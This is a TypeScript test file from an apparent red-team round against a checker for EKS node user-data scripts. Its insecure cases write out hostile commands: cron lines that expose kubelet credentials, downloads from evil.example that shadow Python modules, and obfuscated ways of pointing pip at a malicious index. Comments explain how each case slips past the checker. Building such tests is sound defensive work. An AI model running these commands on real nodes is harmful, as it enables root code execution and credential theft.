// Red-team round 77 (python, fresh eyes) on EKS NODE user data (AL2023: python3.9): Python write calls the pack's
// PYTHON_WRITE_CALLS table does not list, import paths the import readers do not look at, and pip trust (the PIP_*
// environment set without a literal `PIP_X=`, pip's cwd moved by env/sudo --chdir, pip.conf from archives, links,
// Python-written; requirements files rewritten by echo -e, sed -i, ANSI-C here-strings, links).
// Probed insecure 22 (2 controls), secure 6.
// Misses: insecure 8 of 22 accepted, by class:
// - PY-WRITE (3): `_pyio.open(p, "w")` (stdlib pure-Python io; PYTHON_WRITE_CALLS open entry is
//   `^(?:builtins\.|_?io\.)?open$`), numpy.savetxt(fname, ...) and ndarray.tofile(fid) (numpy is a
//   PYTHON_KNOWN_PACKAGES module, its writers are in no table). Fix: `_?(?:py)?io` for open/FileIO; numpy writers
//   (savetxt, save, savez*, tofile, memmap mode w+/r+, ndarray.dump) in PYTHON_WRITE_CALLS, `.tofile(` as a write method.
// - PY-IMPORT-PATH (2): an unchecked-hash pyc downloaded into /opt/ops/__pycache__/ beside a user-data helper.py
//   (pythonRootShadowed looks at M.py / M/ / M.* only, not __pycache__/M.*.pyc); /usr/lib64/python39.zip written
//   (sys.path's zip entry before the standard library; pythonLibraryWritten's regex wants lib/pythonN[.M]/).
//   Fix: any written/downloaded file under ROOT/__pycache__/ named M.* makes M unread; any write of
//   lib(64)/pythonNN.zip makes every import unread.
// - PIP-ENV (3): PIP_INDEX_URL set by `export PIP_$X=...`, `printf -v PIP_INDEX_URL`, `read -r PIP_INDEX_URL`
//   (scriptPipModules looks for the literal text `PIP_\w*\s*=`, and the exported environment the reader computes
//   does not hold these). Fix: withdraw all pip trust on any word containing `PIP_`/`UV_` (a name, `PIP_$X`,
//   printf -v/read/declare/local/mapfile/getopts operands), or at least any `PIP_` followed by a non-word character.
// Secure 3 of 6 refused (fail-closed): `_pyio.open` of a log file (the pathlib `.open(` scan takes the module `_pyio`
// as a Path receiver whose path it cannot compute), and `nice -n 10 pip3 install`, `timeout 300 pip3 install`
// (pipWordsAt knows the value words of sudo/env only, so the install is "pip behind a prefix": all trust withdrawn).
// Held: both controls, zipfile extractall of a download into /etc/cron.d, env/sudo --chdir with a relative -r file,
// pip.conf extracted from a tarball under /etc/xdg or linked in as /etc/xdg/pip, a Python-written /etc/pip.conf,
// requirements files changed by echo -e, sed -i '1a', an ANSI-C here-string or a link over them, a tarball into
// site-packages, unzip over /usr/lib64/python3.9; on the secure side numpy.savetxt of a log, env --chdir with its own
// written req.txt, a plain helper.py beside tune.py.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";

const dev = devNodeCase;

/** What a refusal names: the server, the program, a write root reads, pip, or code it does not read. */
const REFUSED =
    /serv|8001|kubernetes|tune\.py|srv|unread|not read|writes|cron|program|PYTHON|shell|run|pip|index|import|json|helper/;

const EVIL = "https://pypi.evil.example/simple";

/** The cron line the insecure writes put in root's cron: a server of /etc/kubernetes on 0.0.0.0:8001. */
const CRON_LINE = "@reboot root cd /etc/kubernetes && python3 -m http.server 8001";

/** /opt/ops/tune.py (`lines`) run as root from /var/lib/ops; `before` shell lines first. */
const tune = (name: string, lines: string[], before: string[] = []) =>
    devNodeScript(name, [
        "mkdir -p /var/lib/ops /var/cache/ops /var/log/ops",
        ...before,
        ...heredocFile("/opt/ops/tune.py", lines),
        "cd /var/lib/ops && python3 /opt/ops/tune.py",
    ]);

/** tune.py importing a pip-installed module `mod` and calling its main(), after the `install` shell lines. */
const pipRun = (name: string, install: string[], mod = "srvx") =>
    tune(name, [`import ${mod}`, `${mod}.main()`], install);

/** tune.py importing tenacity (a default-index project) and printing its name, after the `install` shell lines. */
const tenacity = (name: string, install: string[]) =>
    tune(name, ["import tenacity", "print(tenacity.__name__)"], install);

const insecure: NodeCase[] = [
    // ===== write calls =====
    dev(
        "tune.py: open('/etc/cron.d/ops', 'w').write(cron line) (control: the builtin open)",
        tune("dev-py77-open-control-nodes", [`open("/etc/cron.d/ops", "w").write("${CRON_LINE}\\n")`]),
        REFUSED,
    ),
    dev(
        "tune.py: import _pyio; open('/etc/cron.d/ops', 'w') (control 2)",
        tune("dev-py77-open-control2-nodes", ["import _pyio", `open("/etc/cron.d/ops", "w").write("${CRON_LINE}\\n")`]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 77): (PY-WRITE) Python docs "io" (the `_pyio` module is CPython's pure-Python io, listed in sys.stdlib_module_names; `_pyio.open` is io.open's implementation: mode 'w' truncates and writes the file): tune.py writes /etc/cron.d/ops, a cron line root's cron runs at boot (crontab(5)) serving /etc/kubernetes (the kubelet's credentials) on 0.0.0.0:8001: every pod reaches the node role's and kubelet's access. The pack: PYTHON_WRITE_CALLS (pythonCode.ts) open entry `^(?:builtins\.|_?io\.)?open$` does not match `_pyio.open`, and nothing else refuses it here (got [], while the same call on a /var/log path IS refused by the pathlib `.open(` scan: the two paths are judged differently). Fix: `^(?:builtins\.|_?(?:py)?io\.)?open$|^_?(?:py)?io\.FileIO$`.
    dev(
        "tune.py: _pyio.open('/etc/cron.d/ops', 'w').write(cron line) (the pure-Python io)",
        tune("dev-py77-pyio-open-nodes", [
            "import _pyio",
            `_pyio.open("/etc/cron.d/ops", "w").write("${CRON_LINE}\\n")`,
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 77): (PY-WRITE) NumPy docs "numpy.savetxt" (fname: "filename, file handle or pathlib.Path"; with fmt='%s' each string item is written as one line): tune.py writes the cron line into /etc/cron.d/ops (crontab(5)): a root server of /etc/kubernetes on 0.0.0.0:8001 at boot. The pack: numpy is a PYTHON_KNOWN_PACKAGES module and no PYTHON_WRITE_CALLS entry names its writers: got []. Fix: numpy.savetxt/save/savez/savez_compressed (arg 0 fname), numpy.memmap with mode w+/r+, numpy.lib.npyio.* in PYTHON_WRITE_CALLS.
    dev(
        "tune.py: numpy.savetxt('/etc/cron.d/ops', [cron line], fmt='%s')",
        tune("dev-py77-numpy-savetxt-nodes", [
            "import numpy",
            `numpy.savetxt("/etc/cron.d/ops", ["${CRON_LINE}"], fmt="%s")`,
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 77): (PY-WRITE) NumPy docs "numpy.ndarray.tofile" (fid: "An open file object, or a string containing a filename"; sep='' writes the raw bytes, "equivalent to file.write(a.tobytes())"): the cron line lands in /etc/cron.d/ops as in the savetxt case. The pack: `.tofile(` is no write method in pythonWriteRefusal's method scans: got []. Fix: add tofile (and dump) to the write-method scans (receiver is data, argument 0 the path).
    dev(
        "tune.py: numpy.frombuffer(cron bytes, dtype='uint8').tofile('/etc/cron.d/ops')",
        tune("dev-py77-numpy-tofile-nodes", [
            "import numpy",
            `numpy.frombuffer(b"${CRON_LINE}\\n", dtype="uint8").tofile("/etc/cron.d/ops")`,
        ]),
        REFUSED,
    ),
    // Round 77 neighbours (PY-WRITE): the io family by what it is (_io, _pyio; FileIO), a module's function on a path
    // with no w/a/x/+ letter (no Path.open mode), numpy writers by the general rule (an absolute path given to a
    // function of an imported module not reviewed as writing none), a from-import alias of one.
    dev(
        "tune.py: _pyio.FileIO('/etc/cron.d/ops', 'w').write(cron bytes)",
        tune("dev-py77n-pyio-fileio-nodes", [
            "import _pyio",
            `_pyio.FileIO("/etc/cron.d/ops", "w").write(b"${CRON_LINE}\\n")`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: import _io as o; o.open('/etc/cron.d/ops', 'w')",
        tune("dev-py77n-io-alias-open-nodes", [
            "import _io as o",
            `o.open("/etc/cron.d/ops", "w").write("${CRON_LINE}\\n")`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: wave.open('/etc/cron.d/ops', 'w') (a module's open the pack has not reviewed: fail closed)",
        tune("dev-py77n-wave-open-nodes", ["import wave", 'w = wave.open("/etc/cron.d/ops", "w")', "w.close()"]),
        REFUSED,
    ),
    dev(
        "tune.py: pathlib.Path.open('/etc/cron.d/ops', 'w') (the unbound method: its mode is argument 1)",
        tune("dev-py77n-path-unbound-open-nodes", [
            "import pathlib",
            `pathlib.Path.open("/etc/cron.d/ops", "w").write("${CRON_LINE}\\n")`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: from numpy import savetxt as st; st('/etc/cron.d/ops', [cron line], fmt='%s')",
        tune("dev-py77n-numpy-savetxt-alias-nodes", [
            "from numpy import savetxt as st",
            `st("/etc/cron.d/ops", ["${CRON_LINE}"], fmt="%s")`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: prometheus_client.write_to_textfile('/etc/cron.d/ops', registry)",
        tune("dev-py77n-prom-textfile-nodes", [
            "import prometheus_client",
            'prometheus_client.write_to_textfile("/etc/cron.d/ops", prometheus_client.REGISTRY)',
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: numpy.arange(3).tofile(fname=...) with a path the pack cannot compute",
        tune("dev-py77n-numpy-tofile-unknown-nodes", ["import numpy, sys", "numpy.arange(3).tofile(sys.argv[1])"]),
        REFUSED,
    ),
    dev(
        "tune.py: zipfile.ZipFile(downloaded zip).extractall('/etc/cron.d')",
        tune(
            "dev-py77-zip-extractall-nodes",
            ["import zipfile", 'zipfile.ZipFile("/var/cache/ops/c.zip").extractall("/etc/cron.d")'],
            ["curl -fsSLo /var/cache/ops/c.zip https://evil.example/c.zip"],
        ),
        REFUSED,
    ),
    // ===== import paths =====
    // Was a MISS (fixed in round 77): (PY-IMPORT-PATH) Python reference "The import system", "Cached bytecode invalidation" (PEP 552): "For unchecked hash-based .pyc files, Python simply assumes the pyc file is valid if it exists"; the tutorial "Compiled Python files": the cache is __pycache__/M.cpython-39.pyc beside M.py. The downloaded pyc, not the helper.py user data wrote, is what `import helper` runs as root: arbitrary code, the kubelet's and node role's credentials. The pack reads helper.py as the program's own code (pythonRootShadowed looks at ROOT/M.py, ROOT/M/, ROOT/M.* only): got []. Fix: a file written/downloaded (or a tree changed) under ROOT/__pycache__/ whose name starts `M.` makes module M unread code (and any __pycache__ under a library dir, for every module there).
    dev(
        "user data: downloads /opt/ops/__pycache__/helper.cpython-39.pyc (unchecked-hash pyc) beside a written helper.py; tune.py imports helper",
        tune(
            "dev-py77-unchecked-pyc-nodes",
            ["import helper", "helper.main()"],
            [
                ...heredocFile("/opt/ops/helper.py", ["def main():", "    print('ok')"]),
                "mkdir -p /opt/ops/__pycache__",
                "curl -fsSLo /opt/ops/__pycache__/helper.cpython-39.pyc https://evil.example/helper.pyc",
            ],
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 77): (PY-IMPORT-PATH) Python docs "The initialization of the sys.path module search path" (after the script's directory and PYTHONPATH comes the zip archive prefix/lib/pythonXY.zip, then prefix/lib/pythonX.Y; on AL2023 sys.path holds /usr/lib64/python39.zip before /usr/lib64/python3.9) and "zipimport": a downloaded python39.zip holding json/__init__.py is the json every root Python program imports: arbitrary root code. The pack: pythonLibraryWritten's pattern wants lib(64)/pythonN[.M]/..., not lib(64)/pythonNN.zip: got []. Fix: any write (or unknown change) of lib(64)/python\d+\.zip under /usr, /usr/local makes every import unread.
    dev(
        "user data: downloads /usr/lib64/python39.zip (on sys.path before the standard library); tune.py imports json",
        tune(
            "dev-py77-stdlib-zip-nodes",
            ["import json", "print(json.dumps(1))"],
            ["curl -fsSLo /usr/lib64/python39.zip https://evil.example/py.zip"],
        ),
        REFUSED,
    ),
    // Round 77 neighbours (PY-IMPORT-PATH): a library directory's __pycache__; the zip changed by an archive.
    dev(
        "user data: downloads /usr/lib64/python3.9/__pycache__/shlex.cpython-39.pyc; tune.py imports shlex",
        tune(
            "dev-py77n-stdlib-pyc-nodes",
            ["import shlex", "print(shlex.quote('x'))"],
            [
                "mkdir -p /usr/lib64/python3.9/__pycache__",
                "curl -fsSLo /usr/lib64/python3.9/__pycache__/shlex.cpython-39.pyc https://evil.example/s.pyc",
            ],
        ),
        REFUSED,
    ),
    dev(
        "user data: tar -xzf downloaded x.tgz -C /usr/lib64 (python39.zip inside); tune.py imports json",
        tune(
            "dev-py77n-stdlib-zip-tar-nodes",
            ["import json", "print(json.dumps(1))"],
            [
                "curl -fsSLo /var/cache/ops/x.tgz https://evil.example/x.tgz",
                "tar -xzf /var/cache/ops/x.tgz -C /usr/lib64",
            ],
        ),
        REFUSED,
    ),
    // ===== pip trust =====
    dev(
        "user data: env --chdir=/var/cache/ops pip3 install -r req.txt (a downloaded req.txt there; the checked one in /etc/ops)",
        pipRun("dev-py77-pip-env-chdir-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
            "curl -fsSLo /var/cache/ops/req.txt https://evil.example/req.txt",
            "cd /etc/ops",
            "env --chdir=/var/cache/ops pip3 install -r req.txt",
        ]),
        REFUSED,
    ),
    dev(
        "user data: sudo --chdir=/var/cache/ops pip3 install -r req.txt (sudo -D)",
        pipRun("dev-py77-pip-sudo-chdir-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
            "curl -fsSLo /var/cache/ops/req.txt https://evil.example/req.txt",
            "cd /etc/ops",
            "sudo --chdir=/var/cache/ops pip3 install -r req.txt",
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 77): (PIP-ENV) bash manual "Bourne Shell Builtins" export (`export name[=value]`: the word is expanded first, so PIP_$X=v exports PIP_INDEX_URL) and pip docs "Configuration", "Environment Variables" (PIP_INDEX_URL is --index-url): srvx comes from the attacker's index and tune.py runs it as root. The pack: scriptPipModules retracts only on the literal text `PIP_\w*\s*=` (here `PIP_$`) and pythonPipInstalled's view.environment check does not see the expanded name: got []. Fix: withdraw all pip trust on any `PIP_`/`UV_` followed by anything but a complete literal assignment the pack reads, e.g. /(?<![\w$])(?:PIP|UV)_/ anywhere in user data.
    dev(
        "user data: X=INDEX_URL; export PIP_$X=EVIL; pip3 install srvx",
        pipRun("dev-py77-pip-env-name-expanded-nodes", ["X=INDEX_URL", `export PIP_$X=${EVIL}`, "pip3 install srvx"]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 77): (PIP-ENV) bash manual "Bash Builtins" printf ("The -v option causes the output to be assigned to the variable var rather than being printed") then export: PIP_INDEX_URL reaches pip (pip docs "Configuration", environment variables): srvx from another index run as root. The pack: no `PIP_...=` text, and the reader's environment does not model printf -v: got []. Fix: as the PIP_$X case (any word naming PIP_*/UV_* withdraws trust).
    dev(
        "user data: printf -v PIP_INDEX_URL %s EVIL; export PIP_INDEX_URL; pip3 install srvx",
        pipRun("dev-py77-pip-printf-v-nodes", [
            `printf -v PIP_INDEX_URL %s ${EVIL}`,
            "export PIP_INDEX_URL",
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 77): (PIP-ENV) bash manual "Bash Builtins" read ("One line is read from the standard input ... assigned to the first name") then export: PIP_INDEX_URL is the file's line (pip docs "Configuration"): srvx from another index run as root. The pack: no `PIP_...=` text; the reader does not model read: got []. Fix: as the PIP_$X case.
    dev(
        "user data: read -r PIP_INDEX_URL < /etc/ops/idx; export PIP_INDEX_URL; pip3 install srvx",
        pipRun("dev-py77-pip-read-var-nodes", [
            ...heredocFile("/etc/ops/idx", [EVIL]),
            "read -r PIP_INDEX_URL < /etc/ops/idx",
            "export PIP_INDEX_URL",
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    // Round 77 neighbours (PIP-ENV): a variable name the script computes without a literal PIP_ (bash(1) builtins).
    dev(
        'user data: N=PIP; printf -v "${N}_INDEX_URL" %s EVIL; export "${N}_INDEX_URL"; pip3 install srvx',
        pipRun("dev-py77n-pip-printf-v-computed-nodes", [
            "N=PIP",
            `printf -v "\${N}_INDEX_URL" %s ${EVIL}`,
            'export "${N}_INDEX_URL"',
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    dev(
        'user data: N=PIP; read -r "${N}_INDEX_URL" < file; export; pip3 install srvx',
        pipRun("dev-py77n-pip-read-computed-nodes", [
            ...heredocFile("/etc/ops/idx", [EVIL]),
            "N=PIP",
            'read -r "${N}_INDEX_URL" < /etc/ops/idx',
            'export "${N}_INDEX_URL"',
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    dev(
        'user data: N=PIP; declare -n R="${N}_INDEX_URL" (a nameref); R=EVIL; export R; pip3 install srvx',
        pipRun("dev-py77n-pip-nameref-nodes", [
            "N=PIP",
            'declare -n R="${N}_INDEX_URL"',
            `R=${EVIL}`,
            "export R",
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    dev(
        'user data: N=PIP; eval "export ${N}_INDEX_URL=EVIL"; pip3 install srvx',
        pipRun("dev-py77n-pip-eval-computed-nodes", [
            "N=PIP",
            `eval "export \${N}_INDEX_URL=${EVIL}"`,
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    // Round 77 neighbours (wrappers): a wrapper read to its command, then pip's own index option; an unknown option.
    dev(
        "user data: nice -n 10 pip3 install -i EVIL srvx",
        pipRun("dev-py77n-pip-nice-index-nodes", [`nice -n 10 pip3 install -i ${EVIL} srvx`]),
        REFUSED,
    ),
    dev(
        "user data: timeout -s KILL 300 pip3 install --index-url EVIL srvx",
        pipRun("dev-py77n-pip-timeout-index-nodes", [`timeout -s KILL 300 pip3 install --index-url ${EVIL} srvx`]),
        REFUSED,
    ),
    dev(
        "user data: timeout --frobnicate 300 pip3 install tenacity (an option timeout(1) does not document: fail closed)",
        tenacity("dev-py77n-pip-timeout-unknown-nodes", ["timeout --frobnicate 300 pip3 install tenacity"]),
        REFUSED,
    ),
    dev(
        "user data: tar -xzf downloaded cfg.tgz -C /etc/xdg (pip/pip.conf inside); pip3 install srvx",
        pipRun("dev-py77-pip-conf-tar-nodes", [
            "curl -fsSLo /var/cache/ops/cfg.tgz https://evil.example/cfg.tgz",
            "mkdir -p /etc/xdg",
            "tar -xzf /var/cache/ops/cfg.tgz -C /etc/xdg",
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    dev(
        "user data: tar -xzf cfg.tgz -C /opt/cfg; ln -s /opt/cfg /etc/xdg/pip; pip3 install srvx",
        pipRun("dev-py77-pip-conf-dir-link-nodes", [
            "curl -fsSLo /var/cache/ops/cfg.tgz https://evil.example/cfg.tgz",
            "mkdir -p /opt/cfg /etc/xdg",
            "tar -xzf /var/cache/ops/cfg.tgz -C /opt/cfg",
            "ln -s /opt/cfg /etc/xdg/pip",
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    dev(
        "user data: echo -e 'srvx\\n-i EVIL' > req.txt; pip3 install -r",
        pipRun("dev-py77-req-echo-e-nodes", [
            "mkdir -p /etc/ops",
            `echo -e 'srvx\\n-i ${EVIL}' > /etc/ops/req.txt`,
            "pip3 install -r /etc/ops/req.txt",
        ]),
        REFUSED,
    ),
    dev(
        "user data: heredoc req.txt srvx; sed -i '1a --index-url EVIL'; pip3 install -r",
        pipRun("dev-py77-req-sed-append-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
            `sed -i '1a --index-url ${EVIL}' /etc/ops/req.txt`,
            "pip3 install -r /etc/ops/req.txt",
        ]),
        REFUSED,
    ),
    dev(
        "user data: cat > req.txt <<< $'srvx\\n-i EVIL' (ANSI-C here-string); pip3 install -r",
        pipRun("dev-py77-req-herestring-ansi-nodes", [
            "mkdir -p /etc/ops",
            `cat > /etc/ops/req.txt <<< $'srvx\\n-i ${EVIL}'`,
            "pip3 install -r /etc/ops/req.txt",
        ]),
        REFUSED,
    ),
    dev(
        "user data: heredoc req.txt srvx; ln -sf downloaded dl.txt over it; pip3 install -r",
        pipRun("dev-py77-req-link-over-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
            "curl -fsSLo /var/cache/ops/dl.txt https://evil.example/req.txt",
            "ln -sf /var/cache/ops/dl.txt /etc/ops/req.txt",
            "pip3 install -r /etc/ops/req.txt",
        ]),
        REFUSED,
    ),
    dev(
        "user data: python3 /opt/ops/cfg.py writes /etc/pip.conf (index-url EVIL); pip3 install srvx",
        pipRun("dev-py77-pip-conf-python-written-nodes", [
            ...heredocFile("/opt/ops/cfg.py", [
                'open("/etc/pip.conf", "w").write("[global]\\nindex-url = ${EVIL}\\n")',
            ]),
            "python3 /opt/ops/cfg.py",
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    dev(
        "user data: tar -xzf downloaded x.tgz -C /usr/local/lib/python3.9/site-packages (a .pth inside); tune.py imports json",
        tune(
            "dev-py77-tar-site-packages-nodes",
            ["import json", "print(json.dumps(1))"],
            [
                "curl -fsSLo /var/cache/ops/x.tgz https://evil.example/x.tgz",
                "mkdir -p /usr/local/lib/python3.9/site-packages",
                "tar -xzf /var/cache/ops/x.tgz -C /usr/local/lib/python3.9/site-packages",
            ],
        ),
        REFUSED,
    ),
    dev(
        "user data: unzip -o downloaded x.zip -d /usr/lib64/python3.9 (json/ inside); tune.py imports json",
        tune(
            "dev-py77-unzip-stdlib-nodes",
            ["import json", "print(json.dumps(1))"],
            [
                "curl -fsSLo /var/cache/ops/x.zip https://evil.example/x.zip",
                "unzip -o /var/cache/ops/x.zip -d /usr/lib64/python3.9",
            ],
        ),
        REFUSED,
    ),
];

const secure: NodeCase[] = [
    dev(
        "tune.py: numpy.savetxt('/var/log/ops/stats.csv', data) (a log of its own)",
        tune("dev-py77-numpy-savetxt-log-nodes", [
            "import numpy",
            'numpy.savetxt("/var/log/ops/stats.csv", [1, 2, 3])',
        ]),
    ),
    // Was a MISS (fixed in round 77): (secure, fail-closed) a write to the program's own log under /var/log/ops is harmless (no root reader takes it as configuration or code). The pack: `_pyio` is not a PYTHON_WRITE_CALLS module, so the pathlib `.open(` scan in pythonWriteRefusal takes `_pyio` as a Path receiver and refuses "a path the pack cannot compute". Fix: the same `_?(?:py)?io` open entry as the insecure _pyio case (then the literal path is judged).
    dev(
        "tune.py: _pyio.open('/var/log/ops/t.log', 'w') (a log of its own)",
        tune("dev-py77-pyio-log-nodes", ["import _pyio", '_pyio.open("/var/log/ops/t.log", "w").write("ok\\n")']),
    ),
    // Was a MISS (fixed in round 77): (secure, fail-closed) nice(1) coreutils ("nice [OPTION] [COMMAND [ARG]...]", -n N the adjustment) runs `pip3 install tenacity` unchanged: a default-index install by name (DECIDED trusted). The pack: pipWordsAt skips flag words only after sudo/env, so `-n` ends the prefix and the line is "pip behind a prefix": retractAll, tenacity refused as unread. Fix: read nice's -n N/--adjustment=N, timeout's DURATION and options, ionice/stdbuf/chrt per their synopsis in pipWordsAt.
    dev(
        "user data: nice -n 10 pip3 install tenacity",
        tenacity("dev-py77-pip-nice-n-nodes", ["nice -n 10 pip3 install tenacity"]),
    ),
    // Was a MISS (fixed in round 77): (secure, fail-closed) timeout(1) coreutils ("timeout [OPTION] DURATION COMMAND [ARG]...") runs the same default-index install. The pack: `timeout` is not among pipWordsAt's prefixes: retractAll, tenacity refused. Fix: as the nice case.
    dev(
        "user data: timeout 300 pip3 install tenacity",
        tenacity("dev-py77-pip-timeout-nodes", ["timeout 300 pip3 install tenacity"]),
    ),
    // Round 77 neighbours (secure): the io family and numpy writing a log of their own, a pyc of another module, a zip
    // off sys.path, variables of literal names set by the builtins, scheduling wrappers read to pip.
    dev(
        "tune.py: from _pyio import open as pyopen; pyopen('/var/log/ops/t.log', 'w') (a log of its own)",
        tune("dev-py77n-pyio-alias-log-nodes", [
            "from _pyio import open as pyopen",
            'pyopen("/var/log/ops/t.log", "w").write("ok\\n")',
        ]),
    ),
    dev(
        "tune.py: numpy.arange(3).tofile('/var/cache/ops/a.bin') (a cache of its own)",
        tune("dev-py77n-numpy-tofile-cache-nodes", ["import numpy", 'numpy.arange(3).tofile("/var/cache/ops/a.bin")']),
    ),
    dev(
        "user data: downloads /opt/ops/__pycache__/other.cpython-39.pyc (no module tune.py imports); helper.py written; tune.py imports helper",
        tune(
            "dev-py77n-pyc-other-module-nodes",
            ["import helper", "helper.main()"],
            [
                ...heredocFile("/opt/ops/helper.py", ["def main():", "    print('ok')"]),
                "mkdir -p /opt/ops/__pycache__",
                "curl -fsSLo /opt/ops/__pycache__/other.cpython-39.pyc https://evil.example/other.pyc",
            ],
        ),
    ),
    dev(
        "user data: downloads /var/cache/ops/python39.zip (on no sys.path); tune.py imports json",
        tune(
            "dev-py77n-zip-elsewhere-nodes",
            ["import json", "print(json.dumps(1))"],
            ["curl -fsSLo /var/cache/ops/python39.zip https://evil.example/py.zip"],
        ),
    ),
    dev(
        "user data: printf -v STAMP %s ok; read -r LINE < /etc/ops/note; export STAMP; pip3 install tenacity",
        tenacity("dev-py77n-pip-literal-names-nodes", [
            ...heredocFile("/etc/ops/note", ["hello"]),
            "printf -v STAMP %s ok",
            "read -r LINE < /etc/ops/note",
            'export STAMP="$LINE"',
            "pip3 install tenacity",
        ]),
    ),
    dev(
        "user data: ionice -c 3 nice -n 19 stdbuf -oL pip3 install tenacity",
        tenacity("dev-py77n-pip-wrapper-chain-nodes", ["ionice -c 3 nice -n 19 stdbuf -oL pip3 install tenacity"]),
    ),
    dev(
        "user data: timeout --kill-after=10 -s TERM 5m pip3 install tenacity",
        tenacity("dev-py77n-pip-timeout-options-nodes", ["timeout --kill-after=10 -s TERM 5m pip3 install tenacity"]),
    ),
    dev(
        "user data: chrt -o 0 setsid -f nohup pip3 install tenacity",
        tenacity("dev-py77n-pip-chrt-setsid-nodes", ["chrt -o 0 setsid -f nohup pip3 install tenacity"]),
    ),
    dev(
        "user data: env --chdir=/etc/ops pip3 install -r req.txt (the file it wrote there)",
        tenacity("dev-py77-req-env-chdir-own-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["tenacity"]),
            "env --chdir=/etc/ops pip3 install -r req.txt",
        ]),
    ),
    dev(
        "user data: helper.py written beside tune.py; tune.py imports helper (control for the pyc case)",
        tune(
            "dev-py77-helper-plain-nodes",
            ["import helper", "helper.main()"],
            heredocFile("/opt/ops/helper.py", ["def main():", "    print('ok')"]),
        ),
    ),
];

describeNodeCases(
    "red team 77: node user data, Python writes, import paths and pip trust (fresh eyes)",
    insecure,
    secure,
);
